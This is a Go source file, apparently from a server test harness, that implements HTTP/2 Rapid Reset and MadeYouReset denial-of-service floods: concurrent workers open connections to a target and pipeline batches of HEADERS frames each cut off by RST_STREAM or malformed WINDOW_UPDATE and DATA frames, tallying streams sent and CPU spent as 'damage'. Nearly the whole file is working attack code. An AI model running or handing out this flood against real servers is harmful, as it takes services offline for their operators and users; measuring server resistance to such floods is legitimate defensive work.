package floods

import (
	"bytes"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"os"
	"sync"
	"sync/atomic"
	"syscall"
	"time"
)

// attack determines how each stream ends after its HEADERS.
type attack string

const (
	rapidReset   attack = "rapid reset"
	madeYouReset attack = "MadeYouReset"
)

// Frame types (RFC 9113 section 6).
const (
	frameData     = 0
	frameHeaders  = 1
	frameReset    = 3
	frameSettings = 4
	frameUpdate   = 8
)

const (
	attackers = 8
	pairs     = 64 // HEADERS, each with the frame that ends its stream, in one write
	preface   = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
)

// order is the input of an attacker process, which ends with its input.
type order struct {
	Attack attack
	Target string
	From   string
}

// damage counts what an attacker process has done.
type damage struct {
	Connections, Streams int64
	CPU                  time.Duration
}

// attackMain attacks until its input ends, and prints the damage.
func attackMain() error {
	var o order
	in := json.NewDecoder(os.Stdin)
	if err := in.Decode(&o); err != nil {
		return err
	}
	var d damage
	var over atomic.Bool
	var all sync.WaitGroup
	before := spent()
	for range attackers {
		all.Go(func() {
			for !over.Load() {
				o.once(&d, &over)
			}
		})
	}
	_, _ = io.Copy(io.Discard, os.Stdin)
	over.Store(true)
	all.Wait()
	d.CPU = spent() - before
	return json.NewEncoder(os.Stdout).Encode(&d)
}

// spent returns the CPU time of this process.
func spent() time.Duration {
	var r syscall.Rusage
	_ = syscall.Getrusage(syscall.RUSAGE_SELF, &r)
	return time.Duration(r.Utime.Nano() + r.Stime.Nano())
}

// once attacks over one connection until it is closed.
func (o *order) once(d *damage, over *atomic.Bool) {
	dialer := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(o.From)}, Timeout: 5 * time.Second}
	c, err := dialer.Dial("tcp", o.Target)
	if err != nil {
		return
	}
	defer c.Close()
	atomic.AddInt64(&d.Connections, 1)
	ended := make(chan struct{})
	go func() {
		defer close(ended)
		_, _ = io.Copy(io.Discard, struct{ io.Reader }{c}) // drain responses, or flow control would stop the attack
		_ = c.SetWriteDeadline(time.Now())
	}()
	b := append([]byte(preface), frame(frameSettings, 0, 0, nil)...)
	for id := uint32(1); !over.Load() && id < 1<<30; {
		for range pairs {
			b = append(b, frame(frameHeaders, 5, id, head)...)
			b = append(b, o.end(id)...)
			id += 2
		}
		if _, err := c.Write(b); err != nil {
			break
		}
		atomic.AddInt64(&d.Streams, pairs)
		b = b[:0]
	}
	_ = c.(*net.TCPConn).CloseWrite()
	_ = c.SetReadDeadline(time.Now().Add(time.Second))
	<-ended
}

// end returns the frame that ends a stream. MadeYouReset alternates between its variants.
func (o *order) end(id uint32) []byte {
	if o.Attack == rapidReset {
		return frame(frameReset, 0, id, []byte{0, 0, 0, 8})
	}
	switch id / 2 % 3 {
	case 0:
		return frame(frameUpdate, 0, id, []byte{0, 0, 0, 0})
	case 1:
		return frame(frameUpdate, 0, id, []byte{0x7f, 0xff, 0xff, 0xff})
	}
	return frame(frameData, 1, id, []byte("late"))
}

// head is the HPACK block of a request for /128 of a.test, without the dynamic table.
var head = bytes.Join([][]byte{{0x82, 0x86, 0x04, 4}, []byte("/128"), {0x01, 6}, []byte("a.test")}, nil)

func frame(kind, flags byte, id uint32, payload []byte) []byte {
	b := []byte{0, byte(len(payload) >> 8), byte(len(payload)), kind, flags}
	return append(binary.BigEndian.AppendUint32(b, id), payload...)
}

func (d damage) String() string {
	return fmt.Sprintf("%d streams on %d connections", d.Streams, d.Connections)
}
